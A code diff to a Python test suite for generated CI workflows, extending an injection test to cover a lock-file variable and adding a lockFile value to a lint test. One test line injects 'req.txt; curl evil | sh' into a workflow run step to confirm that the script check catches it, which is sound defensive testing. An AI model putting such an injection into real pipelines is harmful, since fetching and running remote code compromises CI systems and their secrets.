@@ -217,8 +217,10 @@ def test_injection_into_a_run_line_is_caught_by_the_script_check() -> None:
     name = next(p for p in BASELINE if p.endswith("tests.yml"))
     document = yaml.safe_load(BASELINE[name])
     steps = document["jobs"]["test"]["steps"]
-    install = next(s for s in steps if "REQUIREMENTS" in s.get("env", {}))
-    install["run"] = install["run"].replace('"$REQUIREMENTS"', "req.txt; curl evil | sh")
+    # prod installs from its lock file (`$LOCK_FILE`); other repositories from `$REQUIREMENTS`.
+    install = next(s for s in steps if {"REQUIREMENTS", "LOCK_FILE"} & set(s.get("env", {})))
+    (variable,) = {"REQUIREMENTS", "LOCK_FILE"} & set(install["env"])
+    install["run"] = install["run"].replace(f'"${variable}"', "req.txt; curl evil | sh")
     assert _run_scripts(document) != SCRIPTS[name]
 
 
@@ -233,6 +235,7 @@ def test_the_widest_accepted_values_leave_zizmor_clean(tmp_path: Path) -> None:
         defaultBranch="trunk/v1.x_2+rc-1",
         workflows={
             "requirementsFile": "req_s/dev-1.2.txt",
+            "lockFile": "req_s/ci-1.2.lock",
             "appImport": "_pkg.a1.b_2:App_1",
             "pythonVersions": ["3.10", "3.13"],
         },
